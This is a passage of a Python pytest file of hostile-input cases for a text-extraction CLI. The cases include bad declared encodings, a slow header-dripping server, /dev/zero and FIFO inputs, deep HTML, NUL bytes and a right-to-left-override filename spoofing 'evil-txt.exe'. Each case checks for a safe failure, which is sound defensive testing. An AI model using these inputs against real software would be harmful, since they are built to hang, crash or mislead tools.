        observed = str(exc)
    finally:
        server.close()
    return observed + (" only after the whole drip" if server.finished else "")


def _related_links_page() -> str:
    paras = [
        "The harbour board approved the new ferry terminal on Monday after a short debate.",
        "Engineers said the old pier will be demolished in the spring and rebuilt by 2027.",
        "The mayor said the project is the largest in the town for a generation.",
        "Opponents said the cost of 40 million euros was too high for a town of its size.",
    ]
    links = ["More from Harbour News", "Fish market reopens"]
    page = "\n\n".join(
        ["Ferry terminal approved", *paras[:2], *links, paras[2], "Read more: Tax to rise", paras[3]]
    )
    art = article_from_text("links", page)
    lost = [k for k, p in enumerate(paras) if p not in art.text]
    return f"paragraphs lost: {lost}" if lost else "all paragraphs kept"


NOT_REGULAR = "not a regular file (a pipe, device or folder); save it as a file"
NOT_THRESHOLD = "must be a finite number of 0 or more"

CASES: list[Case] = [
    # item 3: only real text encodings; valid Unicode after any decoding path
    Case(
        "utf7-declared",
        "crash",
        "text/plain; charset=utf-7 with '+2D0-'",
        "valid Unicode; ignored the declared encoding 'utf-7', which is not a web text encoding",
        _decoded(b"The council met. +2D0- Then it voted on the bridge plan.", "utf-7"),
    ),
    Case(
        "unicode-escape-declared",
        "crash",
        "charset=unicode_escape with '\\ud800'",
        "valid Unicode; ignored the declared encoding 'unicode_escape', which is not a web text encoding",
        _decoded(b"The council met. \\ud800 Then it voted on the bridge plan.", "unicode_escape"),
    ),
    Case(
        "surrogate-in-paste",
        "crash",
        "a pasted str holding a lone surrogate",
        "valid Unicode",
        _pasted_surrogate,
    ),
    # item 4: cleaning is linear in the number of heading-like lines
    Case(
        "heading-lines-cost",
        "hang",
        "1,000 vs 8,000 distinct heading-like lines",
        "linear",
        _heading_lines_cost,
    ),
    # item 5: the total deadline covers the status line and headers
    Case(
        "drip-headers",
        "hang",
        "a server dripping its headers one byte per 0.1 s (read timeout 0.5 s, deadline 0.8 s)",
        "Timed out after 0.8 s",
        _drip_fetch,
    ),
    # item 7: CLI inputs and outputs
    Case(
        "cli-fifo",
        "hang",
        "a FIFO among the files",
        f"exit 0: skipped: pipe.txt: {NOT_REGULAR} | sources 2 (a, b)",
        _with_tmp(_cli_fifo),
    ),
    Case(
        "cli-dev-zero",
        "hang",
        "/dev/zero among the files",
        f"exit 0: skipped: zero: {NOT_REGULAR} | sources 2 (a, b)",
        _with_tmp(
            lambda tmp: _cli(
                "/dev/zero", *_story_files(tmp / "s", ["a.txt", "b.txt"]), "--out", str(tmp / "o")
            )
        ),
    ),
    Case(
        "cli-1.5GB-file",
        "crash",
        "a sparse 1.5 GB file",
        "exit 0: skipped: big.txt: the file is 1500.0 MB; the limit is 5 MB | sources 2 (a, b)",
        _with_tmp(_cli_big_sparse),
    ),
    Case(
        "cli-out-is-file",
        "crash",
        "--out naming an existing file",
        "exit 2: error: --out T/taken is a file; give a folder for the tables",
        _with_tmp(_cli_out_is_file),
    ),
    Case(
        "cli-out-under-file",
        "crash",
        "--out naming a folder inside a file",
        "exit 2: error: --out T/taken/sub: T/taken is a file, not a folder",
        _with_tmp(_cli_out_under_file),
    ),
    Case(
        "cli-report-is-folder",
        "crash",
        "--report naming a folder",
        "exit 2: error: --report T is a folder; give a file name such as report.html",
        _with_tmp(_cli_report_is_folder),
    ),
    # item 9: name de-duplication never creates a new collision
    Case(
        "cli-dedup-a-2",
        "lost",
        "a-2.txt, a.md, a.txt",
        "exit 0: sources 3 (a-2, a, a-3)",
        _cli_names(["a-2.txt", "a.md", "a.txt"]),
    ),
    Case(
        "cli-dedup-chain",
        "lost",
        "a.txt, a.md, a-2.txt, a-3.txt, a.html",
        "exit 0: sources 5 (a, a-4, a-2, a-3, a-5)",
        _cli_names(["a.txt", "a.md", "a-2.txt", "a-3.txt", "a.html"]),
    ),
    # item 10: deep HTML keeps its text
    *(
        Case(
            f"html-depth-{d}", "lost", f"HTML nested {d} levels deep", "kept outer, inner, after", _nested(d)
        )
        for d in (200, 255, 256, 1000, 5000)
    ),
    # item 12: names and thresholds, NUL bytes
    Case(
        "cli-zero-width-name",
        "injection",
        "a file named only U+200B",
        "exit 0: sources 2 (source, b)",
        _cli_names(["\u200b.txt", "b.txt"]),
    ),
    Case(
        "cli-rtl-override-name",
        "injection",
        "a file name with U+202E (right-to-left override)",
        "exit 0: sources 2 (evil-txt.exe, b)",
        _cli_names(["\u202eevil-txt.exe.txt", "b.txt"]),
    ),
    Case(
        "cli-nfc-nfd-names",
        "lost",
        "'Café' as NFC and as NFD (two files, one name)",
        "exit 0: sources 2 (Café, Café-2)",
        _cli_names(["Caf\u00e9.txt", "Cafe\u0301.txt"]),
    ),
    Case(
        "cli-nfkc-names",
        "lost",
        "'ａ' (fullwidth) and 'a'",
        "exit 0: sources 2 (ａ, a-2)",
        _cli_names(["\uff41.txt", "a.txt"]),
    ),
    *(
        Case(
            f"cli-threshold-{opt}-{v}",
            "crash",
            f"{opt} {v}",
            f"exit 2: python -m core compare: error: argument {opt}: '{v}' {NOT_THRESHOLD}",
            _cli_threshold(opt, v),
        )
        for opt in ("--min-score", "--min-margin")
        for v in ("nan", "inf", "-inf", "-1")
    ),
    Case("nul-early", "lost", "one NUL byte at offset 100", "refused: binary", _nul_at(100)),
    Case("nul-after-64KB", "lost", "one NUL byte after 64 KB", "refused: binary", _nul_at(70_000)),
    # issue 10 item 2: a related-links block keeps the paragraphs after it
    Case(
        "related-links",
        "lost",
        "'More from ...' and 'Read more: ...' mid-article",
        "all paragraphs kept",
        _related_links_page,
    ),
]


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_hostile_case(case: Case) -> None:
    with time_limit(HANG_GUARD_S, case.id):
        observed = case.observe()
    assert observed == case.expected, f"{case.input}: expected {case.expected!r}, observed {observed!r}"
